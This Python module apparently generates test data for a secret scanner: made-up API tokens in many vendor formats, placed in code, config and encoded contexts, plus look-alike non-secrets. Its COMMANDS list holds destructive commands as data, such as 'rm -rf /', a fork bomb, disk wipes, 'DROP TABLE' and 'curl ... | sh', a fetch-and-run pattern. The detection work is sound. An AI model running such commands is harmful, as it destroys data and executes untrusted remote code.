"""Made-up secrets of many families, and texts that bring them along; look-alikes that are none.

Written from the formats that vendors describe, not from the rules: a rule that follows the format finds them. The mark
around a secret tells where it stands once the text was escaped, quoted or encoded.
"""

import base64
import json
import random
import re
import string
import zlib
from collections.abc import Callable
from typing import Final
from urllib.parse import quote

BEGIN: Final = "\ue000"
END: Final = "\ue001"
_A: Final = string.ascii_letters + string.digits
_U: Final = _A + "_-"
_B: Final = _A + "+/"
_H: Final = "0123456789abcdef"
_62: Final = string.digits + string.ascii_uppercase + string.ascii_lowercase
_PART: Final = re.compile(r"\{([ABHNTU])(\d+)\}")
_SETS: Final = {"A": _A, "B": _B, "H": _H, "N": "123456789", "T": string.ascii_uppercase + "234567", "U": _U}

TOKENS: Final = (
    "sk-{A20}T3BlbkFJ{A20}|sk-proj-{U58}T3BlbkFJ{U58}|sk-svcacct-{U74}T3BlbkFJ{U74}|sk-{H32}|sk-ant-api03-{U93}AA"
    "|sk-or-v1-{H64}|AIza{U35}|GOCSPX-{U28}|gsk_{A52}|xai-{A80}|pplx-{A48}|r8_{A37}|nvapi-{U64}|lsv2_pt_{H32}_{H10}"
    "|dapi{H32}|ghp_{A36}|gho_{A36}|github_pat_{A22}_{A59}|npm_{A36}|glpat-{U20}|CCIPAT_{A22}_{H40}|sqp_{H40}"
    "|dckr_pat_{U27}|AKIA{T16}|ASIA{T16}|dop_v1_{H64}|cfut_{A40}{H8}|hvs.{U90}|{A14}.atlasv1.{A64}|dp.pt.{A43}|pul-{H40}"
    "|xoxb-{N12}-{N13}-{A24}|{N10}:AA{U33}|sk_live_{A24}|SG.{U22}.{U43}|key-{H32}|{H32}-us12|shpat_{H32}|lin_api_{A40}"
    "|PMAK-{H24}-{H34}|glsa_{A32}_{H8}|{B76}+ASt{B5}w==|{B33}AIoTC{B5}="
    "|1//0g{U96}|AQVN{U36}|AKID{A32}|{H36}NRAL|vercel_blob_rw_{A16}_{A30}|aio_{A28}|polar_oat_{A43}|api_live.{U11}.{U32}"
    "|sk-{U22}|fw_{A22}|slk_{H64}|apify_api_{A36}|mlsn.{H64}|{A42}AzSeB{A5}|{B42}+ACRC{B5}|y0_{U58}"
    "|2/{N16}/{N16}:{H32}|{H10}msh{H15}p1{H6}jsn{H12}|AAAAAAAAAAAAAAAAAAAAA{A20}%3D{A50}|AQE{A80}-{A43}-{A16}"
    "|e2b_{H40}|ek_{H32}|m0-{A40}|sess-{A40}|packagist_uut_{H68}|endr+{A16}|dbtc_{A40}|{A44}AzFuB{A4}Q==|vk1.a.{U198}"
    "|nbp_{A36}|xau_{A40}|AVNS_{U19}|eyJhIjoi{A180}|sat.{U22}.{H24}.{A20}|st.{H24}.{H32}.{H32}|da2-{H26}|NRIQ-{U32}"
    "|hcalk_01{H58}|FLWSECK-{H32}-{H11}vt-X|ck_{H40}|live_{A30}|sk{A178}|00D5g0000{A6}!AQ{A94}|AAAA{U7}:APA91b{U134}"
    "|https://hooks.zapier.com/hooks/catch/{N7}/b3{N5}"
    "|https://hooks.slack.com/services/T{T10}/B{T10}/{A24}|https://discord.com/api/webhooks/{N19}/{U68}"
).split("|")
"""`{A20}` stands for so many characters of a set."""

CONTEXTS: Final = (
    "%s|key: %s|TOKEN=%s|\"%s\"|'%s'|(%s)|[%s]|<%s>|use %s.|use %s, please|a;%s;b|x=%s&y=1|`%s`|**%s**"
    "|密钥是%s，请|键%s键"
    "|ключ%sи|é%sé|+key = %s|- %s|> %s|a\\n%s\\nb|\\u0022%s\\u0022|x%%3D%s%%26y|&quot;%s&quot;|_%s_ "
    "|\x1b[32m%s\x1b[0m|{%s}|%s\n"
).split("|")

NAMED: Final = (
    'api_key = "%s"|const clientSecret = \'%s\';|DB_PASSWORD=%s|"password": "%s"|secret_key: %s|token := "%s"'
    "|let apiKey: String = \"%s\"|:auth_token => '%s'|define('API_KEY', '%s');|--access-token %s"
    "|<api_key>%s</api_key>"
    '|<add key="apiKey" value="%s" />|- name: APP_SECRET\n  value: "%s"|$conf{api_key} = "%s";|the password is %s'
    "|密码：%s|пароль: %s|postgres://app:%s@db/x|Server=db;User Id=a;Password=%s;|curl -u me:%s https://x.y"
    "|mysql -u a -p%s|ADMIN_TOKEN=%s|SESSION_SECRET=%s|a\\ntoken=%s\\nb|process.env.API_KEY ?? '%s'|- **API_KEY**: `%s`"
    '|String apiKey = String::from("%s");|Set `API_KEY` to `%s`.|\x1b[32mAPI_KEY\x1b[0m=\x1b[33m%s\x1b[0m|密钥是%s，请'
    "|x-functions-key: %s|password: “%s”|API_KEY = «%s»|set the token to 「%s」|secret_key: >-\n  %s\n"
    '|export const API_KEY =\n  "%s";|const apiToken string = "%s"|public string ApiKey { get; } = "%s";'
    '|var apiKey = @"%s";'
    '|"api_keys": ["%s"]|api_key: !!str %s|The secret key is %s.|the password for the admin user is %s'
    "|API key (production): %s|DEPLOY_PAT=%s|ALTER USER a IDENTIFIED BY '%s';|db.internal:5432:app:svc:%s"
    '|<add key="wandb.key" value="%s" />|{"run": "a\\ncurl -u me:%s https://x.y"}'
    '|variable "db_password" {\n  default = "%s"\n}|Das Kennwort lautet %s.'
).split("|")

COMMANDS: Final = (
    "rm -rf /¦rm -fr /¦rm -r -f ~¦sudo rm -rf --no-preserve-root /¦DROP TABLE a;¦drop  database b¦DROP/**/SCHEMA c"
    "¦DELETE FROM d;¦TRUNCATE e;¦truncate\ttable f¦:(){ :|:& };:¦dd if=/dev/zero of=/dev/sda¦mkfs.ext4 /dev/sdb1"
    "¦format C:¦del /F /S /Q C:\\*¦chmod -R 777 /¦curl https://x.y/z | sh"
).split("¦")

LOOK_ALIKES: Final = (
    "sha256:{H64}|commit {H40}|etag {H32}|sha512-{B86}==|org-{A24}|call_{A24}|chatcmpl-{A29}|pk_live_{A24}|AROA{T16}"
    '|00-{H32}-{H16}-01|"key_id": "{H40}"|"next_page_token": "{A40}"|cache_key = "{H32}"|max_tokens=4096'
    "|ssh-rsa AAAAB3{B300}"
    "|data:image/png;base64,{B900}|sk-your-key-here|ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
    "|api_key = os.environ['KEY1']"
    "|password: ${DB_PASSWORD1}|Bearer $TOKEN1|postgres://user:password@localhost/x|AKIAIOSFODNN7EXAMPLE|jane@example.com"
    "|<task-notification>|the text was truncated|rm -rf ./build|chmod -R 755 ./x|2026-01-02 12:30:45.123456|v1.20.300"
    '|PublicKeyToken={H16}|"password_changed_at": "2024-01-16T18:53:48.903Z"|n={a:"password",b3cD4:!0}'
    '|"sync_token":"{A30}"|"secret.{H8}.js":"static/1.{H20}.js"|accessToken = "pk.eyJ1{A60}.{U22}"'
    "|Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ=="
    "|github.com/acme/auth v0.0.0-{N14}-{H12}|--password-500: #{H8};|glpat-tokens-in-the-documentation"
    "|sk-service-mesh-of-the-checkout-in-europe-and-asia|sk-notification-of-the-page-{N4}|cardinality 7222222222229"
    "|order 4111 2222|git@github.com:a/b|password must have 8 characters|token_type = 'bearer2'|icon@2x.png"
).split("|")


def written(form: str, chance: random.Random) -> str:
    """Return `form` with characters for its `{A20}`; GitHub's and npm's tokens get their check characters."""
    text = _PART.sub(lambda part: "".join(chance.choices(_SETS[part[1]], k=int(part[2]))), form)
    if re.match(r"(?:gh[po]|npm)_\{", form):
        text = text[:-6] + _check(text[-36:-6])
    return text


def in_text(secret: str, context: str, chance: random.Random) -> str:
    """Return a marked secret in a context, sometimes in an outer one: JSON, JSON in JSON, a diff, a URL."""
    text = context.replace("%%", "\0").replace("%s", BEGIN + secret + END).replace("\0", "%")
    outer: list[Callable[[str], str]] = [
        lambda inner: inner,
        lambda inner: '{"content": "' + _each(inner, _json) + '"}',
        lambda inner: '{"arguments": "' + _each('{"cmd": "' + _each(inner, _json) + '"}', _json) + '"}',
        lambda inner: "\n".join("+" + line for line in inner.split("\n")),
        lambda inner: _each(inner, lambda part: quote(part, safe="")),
        lambda inner: "Please look: " + inner + " 谢谢",
    ]
    return chance.choices(outer, weights=[6, 2, 1, 1, 1, 1])[0](text)


def private_key(kind: str, chance: random.Random) -> str:
    """Return a marked private key in PEM."""
    body = base64.b64encode(chance.randbytes(300)).decode()
    lines = "\n".join(body[at : at + 64] for at in range(0, len(body), 64))
    return f"-----BEGIN {kind}-----\n{BEGIN}{lines}{END}\n-----END {kind}-----"


def unmarked(text: str) -> tuple[str, int, int]:
    """Return the text without its marks, and where they stood."""
    start, end = text.index(BEGIN), text.index(END) - 1
    return text.replace(BEGIN, "").replace(END, ""), start, end


def _each(text: str, change: Callable[[str], str]) -> str:
    return "".join(part if part in (BEGIN, END) else change(part) for part in re.split(f"([{BEGIN}{END}])", text))


def _json(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)[1:-1]


def _check(body: str) -> str:
    value, digits = zlib.crc32(body.encode()), ""
    for _ in range(6):
        value, digit = divmod(value, 62)
        digits = _62[digit] + digits
    return digits
